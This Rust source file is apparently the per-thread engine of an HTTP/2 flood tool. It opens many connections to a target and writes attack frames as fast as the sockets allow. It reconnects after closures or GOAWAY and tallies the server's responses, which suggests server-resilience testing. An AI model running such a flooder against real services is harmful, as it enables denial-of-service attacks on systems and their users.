//! One flood thread: a mio loop over its share of the connections. Each connects (TCP,
//! then TLS with ALPN `h2` for https URLs, or h2c by prior knowledge), sends the client
//! preface and the attack's opening, then writes attack frames as fast as the socket takes
//! them while reading and counting what the server answers, until the server closes the
//! connection (replaced when `--reconnect`) or the time is up.

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};

use super::attack::{Attack, FloodKind, Target};
use super::reader::{Reader, Tally};
use crate::stream::{Handshake, Stream};
use crate::tls::TlsClient;

/// What one thread floods.
#[derive(Clone)]
pub struct FloodPlan {
    pub addr: SocketAddr,
    /// The SNI for TLS (`None` inside: no SNI); `None`: h2c.
    pub tls: Option<Option<String>>,
    pub kind: FloodKind,
    pub target: Target,
    pub connections: usize,
    pub duration: Duration,
    /// Replace a connection the server closed (and one that got GOAWAY but stays open for
    /// longer than `GOAWAY_GRACE`).
    pub reconnect: bool,
    /// Connect plus handshake must finish within this.
    pub timeout: Duration,
}

const TICK: Duration = Duration::from_millis(50);
/// Bytes one connection writes, or reads, before the others (and the clock) get their turn.
const WRITE_TURN: usize = 256 * 1024;
const READ_TURN: usize = 1024 * 1024;
const READ_CHUNK: usize = 64 * 1024;
const RECONNECT_PAUSE: Duration = Duration::from_millis(20);
const GOAWAY_GRACE: Duration = Duration::from_secs(1);

enum Stage {
    Connecting(Instant),
    Handshaking(Instant),
    Flooding(Instant),
    /// Waiting to reconnect.
    Paused(Instant),
    /// Closed, not to be replaced.
    Done,
}

struct Conn {
    stream: Option<Stream>,
    stage: Stage,
    attack: Attack,
    reader: Reader,
    out: Vec<u8>,
    out_at: usize,
    /// The socket may take more, or hold more to read, than the last turn handled: drive
    /// the connection again without waiting for a readiness event (they are edge-triggered).
    write_ready: bool,
}

pub fn run(plan: &FloodPlan) -> io::Result<Tally> {
    let tls = match &plan.tls {
        Some(sni) => Some(TlsClient::with_alpn(sni.clone(), b"\x02h2").map_err(io::Error::other)?),
        None => None,
    };
    let mut t = Thread {
        plan,
        poll: Poll::new()?,
        tls,
        conns: Vec::new(),
        tally: Tally::default(),
        scratch: vec![0; READ_CHUNK],
    };
    let now = Instant::now();
    for i in 0..plan.connections {
        t.conns.push(Conn {
            stream: None,
            stage: Stage::Paused(now),
            attack: Attack::new(plan.kind, plan.target.clone()),
            reader: Reader::new(),
            out: Vec::new(),
            out_at: 0,
            write_ready: false,
        });
        t.connect(i);
    }
    t.run()?;
    Ok(t.tally)
}

struct Thread<'a> {
    plan: &'a FloodPlan,
    poll: Poll,
    tls: Option<TlsClient>,
    conns: Vec<Conn>,
    tally: Tally,
    scratch: Vec<u8>,
}

impl Thread<'_> {
    fn run(&mut self) -> io::Result<()> {
        let deadline = Instant::now() + self.plan.duration;
        let mut events = Events::with_capacity(256);
        let mut next_tick = Instant::now() + TICK;
        loop {
            let now = Instant::now();
            // Without --reconnect the run ends when the server has closed every connection.
            let all_done = self.conns.iter().all(|c| matches!(c.stage, Stage::Done));
            if now >= deadline || all_done {
                break;
            }
            let busy = self.conns.iter().any(|c| c.write_ready);
            let wait = if busy {
                Duration::ZERO
            } else {
                next_tick.min(deadline).saturating_duration_since(now)
            };
            match self.poll.poll(&mut events, Some(wait)) {
                Ok(()) => {}
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(e),
            }
            for event in events.iter() {
                self.drive(event.token().0);
            }
            for i in 0..self.conns.len() {
                if self.conns[i].write_ready {
                    self.drive(i);
                }
            }
            if Instant::now() >= next_tick {
                self.check_timers(Instant::now());
                next_tick += TICK;
            }
        }
        for c in &mut self.conns {
            if matches!(c.stage, Stage::Flooding(_)) {
                self.tally.still_open += 1;
            }
            if let Some(mut s) = c.stream.take() {
                let _ = self.poll.registry().deregister(s.tcp());
            }
        }
        Ok(())
    }

    /// (Re)opens connection `i`.
    fn connect(&mut self, i: usize) {
        let now = Instant::now();
        let opened = TcpStream::connect(self.plan.addr).and_then(|tcp| {
            let _ = tcp.set_nodelay(true);
            match &self.tls {
                None => Ok(Stream::Plain(tcp)),
                Some(client) => Stream::tls(client.ssl().map_err(io::Error::other)?, tcp),
            }
        });
        let registered = opened.and_then(|mut s| {
            self.poll.registry().register(
                s.tcp(),
                Token(i),
                Interest::READABLE | Interest::WRITABLE,
            )?;
            Ok(s)
        });
        let c = &mut self.conns[i];
        c.attack = Attack::new(self.plan.kind, self.plan.target.clone());
        c.reader = Reader::new();
        c.out.clear();
        c.out_at = 0;
        c.write_ready = false;
        match registered {
            Ok(s) => {
                c.stream = Some(s);
                c.stage = Stage::Connecting(now);
            }
            Err(_) => self.failed(i, Failure::Connect),
        }
    }

    /// Connection `i` could not be set up.
    fn failed(&mut self, i: usize, why: Failure) {
        match why {
            Failure::Connect => self.tally.connect_errors += 1,
            Failure::Handshake => self.tally.handshake_errors += 1,
            Failure::NotH2 => self.tally.not_h2 += 1,
        }
        let c = &mut self.conns[i];
        if let Some(mut s) = c.stream.take() {
            let _ = self.poll.registry().deregister(s.tcp());
        }
        c.write_ready = false;
        // A server that does not speak h2 will not start to: no retry.
        c.stage = if self.plan.reconnect && why != Failure::NotH2 {
            Stage::Paused(Instant::now() + RECONNECT_PAUSE)
        } else {
            Stage::Done
        };
    }

    /// The server closed flooding connection `i` (FIN, reset, or a write that failed).
    fn closed_by_server(&mut self, i: usize, flood_start: Instant) {
        self.tally
            .closed_ms
            .push(flood_start.elapsed().as_millis() as u64);
        let c = &mut self.conns[i];
        if c.reader.goaway_at.is_none() {
            self.tally.closed_without_goaway += 1;
        }
        self.drop_conn(i);
    }

    fn drop_conn(&mut self, i: usize) {
        let c = &mut self.conns[i];
        if let Some(mut s) = c.stream.take() {
            let _ = self.poll.registry().deregister(s.tcp());
        }
        c.write_ready = false;
        c.stage = if self.plan.reconnect {
            Stage::Paused(Instant::now() + RECONNECT_PAUSE)
        } else {
            Stage::Done
        };
    }

    fn drive(&mut self, i: usize) {
        let Some(c) = self.conns.get_mut(i) else {
            return;
        };
        let Some(stream) = c.stream.as_mut() else {
            return;
        };
        if let Stage::Connecting(since) = c.stage {
            let tcp = stream.tcp();
            match (tcp.take_error(), tcp.peer_addr()) {
                (Ok(None), Ok(_)) => c.stage = Stage::Handshaking(since),
                (Ok(None), Err(e)) if e.kind() == io::ErrorKind::NotConnected => return,
                _ => return self.failed(i, Failure::Connect),
            }
        }
        if let Stage::Handshaking(_) = c.stage {
            match stream.handshake() {
                Ok(Handshake::Pending) => return,
                Ok(Handshake::Done) => {
                    let h2 = stream
                        .ssl()
                        .is_none_or(|ssl| ssl.selected_alpn_protocol() == Some(b"h2"));
                    if !h2 {
                        return self.failed(i, Failure::NotH2);
                    }
                    self.tally.frames_sent += c.attack.opening(&mut c.out);
                    self.tally.flooded += 1;
                    c.stage = Stage::Flooding(Instant::now());
                }
                Err(_) => return self.failed(i, Failure::Handshake),
            }
        }
        if let Stage::Flooding(start) = c.stage {
            self.io(i, start);
        }
    }

    /// Reads what arrived, then writes one turn of attack frames.
    fn io(&mut self, i: usize, start: Instant) {
        if let Some(more) = self.read_turn(i, start) {
            self.write_turn(i, start, more);
        }
    }

    /// Feeds what arrived on connection `i` to its frame reader. A server that sends without
    /// pause must not keep this loop from its clock (nor the attack from its turn), so this
    /// stops after READ_TURN bytes and answers that more may be waiting; None when the
    /// connection ended here.
    fn read_turn(&mut self, i: usize, start: Instant) -> Option<bool> {
        let c = &mut self.conns[i];
        let stream = c.stream.as_mut()?;
        let mut read = 0;
        loop {
            if read >= READ_TURN {
                return Some(true);
            }
            match stream.read(&mut self.scratch) {
                Ok(0) => break,
                Ok(n) => {
                    read += n;
                    let mut unsent = Vec::new();
                    let answers = if c.attack.may_answer() {
                        &mut c.out
                    } else {
                        &mut unsent
                    };
                    let fed = c.reader.feed(
                        &self.scratch[..n],
                        start,
                        &mut c.attack,
                        &mut self.tally,
                        answers,
                    );
                    if fed.is_err() {
                        self.tally.bad_frames += 1;
                        self.drop_conn(i);
                        return None;
                    }
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return Some(false),
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => break,
            }
        }
        self.closed_by_server(i, start);
        None
    }

    /// Writes one turn of attack frames (and answers) on connection `i`, at most about
    /// WRITE_TURN bytes; `more` says whether reading stopped with data possibly waiting.
    fn write_turn(&mut self, i: usize, start: Instant, more: bool) {
        let c = &mut self.conns[i];
        let Some(stream) = c.stream.as_mut() else {
            return;
        };
        // After a GOAWAY the attack stops; only answers (acks, credit) still go out.
        let attacking = c.reader.goaway_at.is_none();
        let mut written = 0;
        loop {
            if c.out_at == c.out.len() {
                c.out.clear();
                c.out_at = 0;
                if attacking {
                    self.tally.frames_sent += c.attack.batch(&mut c.out);
                }
                if c.out.is_empty() {
                    // Nothing to send until the server answers (a stream ends, say).
                    c.write_ready = more;
                    return;
                }
            }
            match stream.write(&c.out[c.out_at..]) {
                Ok(n) => {
                    c.out_at += n;
                    written += n;
                    self.tally.bytes_sent += n as u64;
                    if written >= WRITE_TURN {
                        c.write_ready = true;
                        return;
                    }
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                    // Readiness comes back with the next writable event.
                    c.write_ready = more;
                    return;
                }
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => {
                    // The server closed with our frames unread (so its kernel reset the
                    // connection): what it sent before, its GOAWAY say, may still be here.
                    self.drain(i, start);
                    return self.closed_by_server(i, start);
                }
            }
        }
    }

    /// Reads whatever is left on connection `i` after a failed write.
    fn drain(&mut self, i: usize, start: Instant) {
        let c = &mut self.conns[i];
        let Some(stream) = c.stream.as_mut() else {
            return;
        };
        let mut sink = Vec::new();
        while let Ok(n @ 1..) = stream.read(&mut self.scratch) {
            let fed = c.reader.feed(
                &self.scratch[..n],
                start,
                &mut c.attack,
                &mut self.tally,
                &mut sink,
            );
            if fed.is_err() {
                break;
            }
        }
    }

    fn check_timers(&mut self, now: Instant) {
        for i in 0..self.conns.len() {
            match self.conns[i].stage {
                Stage::Paused(until) if now >= until => self.connect(i),
                Stage::Connecting(since) if now >= since + self.plan.timeout => {
                    self.failed(i, Failure::Connect)
                }
                Stage::Handshaking(since) if now >= since + self.plan.timeout => {
                    self.failed(i, Failure::Handshake)
                }
                Stage::Flooding(_) if self.plan.reconnect => {
                    // A GOAWAY that is not followed by a close: move on, as an attacker would.
                    let stale = self.conns[i]
                        .reader
                        .goaway_at
                        .is_some_and(|at| now >= at + GOAWAY_GRACE);
                    if stale {
                        self.drop_conn(i);
                    }
                }
                _ => {}
            }
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Failure {
    Connect,
    Handshake,
    NotH2,
}
